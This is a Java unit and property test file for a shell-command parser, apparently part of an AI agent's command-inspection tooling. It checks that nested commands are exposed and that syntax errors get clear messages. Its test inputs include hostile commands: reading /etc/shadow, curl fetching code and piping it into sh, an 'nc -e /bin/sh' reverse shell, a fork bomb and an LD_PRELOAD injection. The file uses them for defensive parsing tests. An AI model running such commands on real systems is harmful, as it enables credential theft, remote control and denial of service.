package dev.assay.agent.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class ShellParserTest {
    /** The argument vectors of every simple command, nested ones included, in visiting order. */
    static List<List<String>> argvs(String command) {
        List<List<String>> out = new ArrayList<>();
        walk(ShellParser.parse(command), out);
        return out;
    }

    static void walk(Script s, List<List<String>> out) {
        for (Script.Pipeline p : s.pipelines()) {
            for (Command c : p.commands()) walk(c, out);
        }
    }

    static void walk(Command c, List<List<String>> out) {
        switch (c) {
            case Command.Simple sc -> {
                List<String> argv = new ArrayList<>();
                for (Word w : sc.words()) argv.add(w.text());
                out.add(argv);
                for (Word w : sc.assignments()) for (Script s : w.substitutions()) walk(s, out);
                for (Word w : sc.words()) for (Script s : w.substitutions()) walk(s, out);
                for (Redirect r : sc.redirects()) for (Script s : r.target().substitutions()) walk(s, out);
            }
            case Command.Compound cc -> {
                for (Word w : cc.words()) for (Script s : w.substitutions()) walk(s, out);
                walk(cc.body(), out);
            }
            case Command.For f -> {
                for (Word w : f.items()) for (Script s : w.substitutions()) walk(s, out);
                walk(f.body(), out);
            }
            case Command.Function fn -> walk(fn.body(), out);
        }
    }

    static Command.Simple only(String command) {
        Script s = ShellParser.parse(command);
        assertThat(s.pipelines()).hasSize(1);
        assertThat(s.pipelines().get(0).commands()).hasSize(1);
        return (Command.Simple) s.pipelines().get(0).commands().get(0);
    }

    @Test
    void listsAndPipelinesKeepTheirOperators() {
        Script s = ShellParser.parse("a x | b -y && ! c; d & e || f\ng");
        assertThat(s.pipelines()).extracting(Script.Pipeline::then).containsExactly("&&", ";", "&", "||", ";", "");
        assertThat(s.pipelines().get(0).commands()).hasSize(2);
        assertThat(s.pipelines().get(1).negated()).isTrue();
        assertThat(argvs("a x | b -y && ! c; d & e || f\ng")).containsExactly(
                List.of("a", "x"), List.of("b", "-y"), List.of("c"), List.of("d"), List.of("e"), List.of("f"), List.of("g"));
    }

    @Test
    void quotingIsResolvedAndExpansionsAreMarked() {
        Command.Simple c = only("echo 'a b' \"c $HOME d\" e\\ f $'\\x2f\\x62in/sh' ${x:-y} *.txt \"q\\\"\" 2>&1");
        assertThat(c.words()).extracting(Word::text).containsExactly("echo", "a b", "c $HOME d", "e f", "/bin/sh", "${x:-y}", "*.txt", "q\"");
        assertThat(c.words().get(1).quoted()).isTrue();
        assertThat(c.words().get(1).expanded()).isFalse();
        assertThat(c.words().get(2).expanded()).isTrue();
        assertThat(c.words().get(5).expanded()).isTrue();
        assertThat(c.words().get(6).glob()).isTrue();
        assertThat(c.redirects()).singleElement().satisfies(r -> {
            assertThat(r.fd()).isEqualTo(2);
            assertThat(r.op()).isEqualTo(">&");
            assertThat(r.target().text()).isEqualTo("1");
            assertThat(r.writes()).isFalse();
        });
    }

    @Test
    void substitutionsAreParsedAsScripts() {
        assertThat(argvs("echo $(cat /etc/shadow) `id -u` \"$(whoami)\" <(ls /root) ${v:-$(uname)} $(( $(nproc) + 1 ))"))
                .containsExactly(List.of("echo", "$(cat /etc/shadow)", "`id -u`", "$(whoami)", "<(ls /root)", "${v:-$(uname)}", "$(( $(nproc) + 1 ))"),
                        List.of("cat", "/etc/shadow"), List.of("id", "-u"), List.of("whoami"), List.of("ls", "/root"), List.of("uname"), List.of("nproc"));
        assertThat(argvs("x=$(curl -s http://h/x) sh -c \"$x\"")).contains(List.of("curl", "-s", "http://h/x"));
    }

    @Test
    void redirectionsAndHereDocuments() {
        Script s = ShellParser.parse("cat <<EOF > /tmp/out && python3 - <<'PY'\nhello $USER\nEOF\nimport os\nos.system('id')\nPY\necho done");
        assertThat(argvs("cat <<EOF > /tmp/out && python3 - <<'PY'\nhello $USER\nEOF\nimport os\nos.system('id')\nPY\necho done"))
                .containsExactly(List.of("cat"), List.of("python3", "-"), List.of("echo", "done"));
        Command.Simple cat = (Command.Simple) s.pipelines().get(0).commands().get(0);
        assertThat(cat.redirects()).hasSize(2);
        assertThat(cat.redirects().get(0).hereDoc()).isEqualTo("hello $USER\n");
        assertThat(cat.redirects().get(0).hereDocExpands()).isTrue();
        assertThat(cat.redirects().get(1).writes()).isTrue();
        Command.Simple py = (Command.Simple) s.pipelines().get(1).commands().get(0);
        assertThat(py.redirects().get(0).hereDoc()).isEqualTo("import os\nos.system('id')\n");
        assertThat(py.redirects().get(0).hereDocExpands()).isFalse();
        assertThat(only("tr a b <<< 'text' >> log 2> /dev/null &> all").redirects()).extracting(Redirect::op)
                .containsExactly("<<<", ">>", ">", "&>");
        assertThat(only("cat <<-X\n\tbody\n\tX").redirects().get(0).hereDoc()).isEqualTo("body\n");
    }

    @Test
    void compoundCommandsExposeEveryCommandInside() {
        assertThat(argvs("if test -f a; then cat a; elif true; then :; else rm -rf b; fi")).containsExactly(
                List.of("test", "-f", "a"), List.of("cat", "a"), List.of("true"), List.of(":"), List.of("rm", "-rf", "b"));
        assertThat(argvs("while read l; do echo \"$l\"; done < f")).containsExactly(List.of("read", "l"), List.of("echo", "$l"));
        assertThat(argvs("for f in *.log $(ls /var/log); do gzip \"$f\"; done")).containsExactly(List.of("ls", "/var/log"), List.of("gzip", "$f"));
        assertThat(argvs("case $(uname) in Linux) echo l;; Darwin|BSD) echo b ;; *) exit 1;; esac"))
                .containsExactly(List.of("uname"), List.of("echo", "l"), List.of("echo", "b"), List.of("exit", "1"));
        assertThat(argvs("(cd /tmp && ls) | { read x; echo $x; }")).containsExactly(List.of("cd", "/tmp"), List.of("ls"), List.of("read", "x"), List.of("echo", "$x"));
        assertThat(argvs("f() { nc -e /bin/sh h 1; }; f")).containsExactly(List.of("nc", "-e", "/bin/sh", "h", "1"), List.of("f"));
        assertThat(argvs(":(){ :|:& };:")).containsExactly(List.of(":"), List.of(":"), List.of(":"));
        assertThat(argvs("[[ -f $(which sh) ]] && ((i++))")).containsExactly(List.of("which", "sh"));
        assertThat(argvs("function g { id; }")).containsExactly(List.of("id"));
        assertThat(argvs("for ((i=0; i<3; i++)); do echo $i; done")).containsExactly(List.of("echo", "$i"));
        assertThat(argvs("time -p sleep 1")).containsExactly(List.of("sleep", "1"));
    }

    @Test
    void assignmentsAndCommentsAndContinuations() {
        Command.Simple c = only("LD_PRELOAD=/tmp/x.so A=(1 2) ls -l \\\n  /tmp # a comment");
        assertThat(c.assignments()).extracting(Word::text).containsExactly("LD_PRELOAD=/tmp/x.so", "A=(1 2)");
        assertThat(c.words()).extracting(Word::text).containsExactly("ls", "-l", "/tmp");
        assertThat(only("echo a#b").words()).extracting(Word::text).containsExactly("echo", "a#b");
        assertThat(only("find . -exec grep -l x {} \\;").words()).extracting(Word::text).containsExactly("find", ".", "-exec", "grep", "-l", "x", "{}", ";");
    }

    @Test
    void syntaxErrorsNameTheProblemAndOffset() {
        assertThatThrownBy(() -> ShellParser.parse("echo 'abc")).isInstanceOf(ShellSyntaxException.class).hasMessage("unterminated single quote at offset 5");
        assertThatThrownBy(() -> ShellParser.parse("echo \"abc")).hasMessage("unterminated double quote at offset 5");
        assertThatThrownBy(() -> ShellParser.parse("echo $(ls")).hasMessageStartingWith("missing ')'");
        assertThatThrownBy(() -> ShellParser.parse("if true; then ls")).hasMessageStartingWith("missing 'fi'");
        assertThatThrownBy(() -> ShellParser.parse("ls &&")).hasMessageStartingWith("expected a command after '&&'");
        assertThatThrownBy(() -> ShellParser.parse("ls )")).hasMessageStartingWith("unexpected ')'");
        assertThatThrownBy(() -> ShellParser.parse("done")).hasMessageStartingWith("unexpected 'done'");
        assertThatThrownBy(() -> ShellParser.parse("ls >")).hasMessageStartingWith("expected a file name after '>'");
        assertThatThrownBy(() -> ShellParser.parse("ls\0/")).hasMessage("the command holds a NUL character at offset 2");
        assertThatThrownBy(() -> ShellParser.parse("$(".repeat(200) + "x" + ")".repeat(200))).hasMessageContaining("nests deeper than 64");
        assertThatThrownBy(() -> ShellParser.parse("x".repeat(ShellParser.MAX_LENGTH + 1))).hasMessageContaining("characters long");
    }

    @Provide
    Arbitrary<String> shellish() {
        return Arbitraries.strings().withChars("ab $(){}[]'\"`\\;&|<>\n#=*?!-0123456789ifthenfidoesac\t").ofMaxLength(60);
    }

    @Property(tries = 3000)
    void theParserOnlyEverThrowsItsSyntaxException(@ForAll("shellish") String input) {
        try {
            Script s = ShellParser.parse(input);
            walk(s, new ArrayList<>());
        } catch (ShellSyntaxException expected) {
            assertThat(expected.getMessage()).isNotBlank();
        }
    }

    @Property(tries = 1000)
    void arbitraryUnicodeNeverCrashesTheParser(@ForAll String input) {
        try {
            ShellParser.parse(input);
        } catch (ShellSyntaxException expected) {
            assertThat(expected.getMessage()).isNotBlank();
        }
    }
}
